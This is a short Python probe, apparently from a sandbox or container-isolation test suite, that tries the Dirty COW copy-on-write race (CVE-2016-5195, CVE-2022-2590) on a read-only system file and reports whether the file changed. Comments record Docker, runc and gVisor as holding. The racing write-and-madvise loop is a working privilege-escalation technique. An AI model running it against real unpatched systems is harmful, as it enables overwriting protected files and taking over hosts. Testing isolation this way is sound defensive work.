# Tries: write through a private mapping of a file that can only be read, while its pages are dropped
# Idea: CVE-2016-5195 (Dirty COW), CVE-2022-2590
# Docker: held, the kernel is mended
# runc: held
# gVisor: held
path = "/usr/share/common-licenses/BSD"
before = read(path)
f = os.open(path, os.O_RDONLY)
page = mmap.mmap(f, 0, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE)
stop = time.monotonic() + 0.3
def drop():
    while time.monotonic() < stop: page.madvise(mmap.MADV_DONTNEED)
racer = threading.Thread(target=drop); racer.start()
while time.monotonic() < stop: page[0:5] = b"DIRTY"
racer.join()
if read(path) != before: breached(path + " has changed")
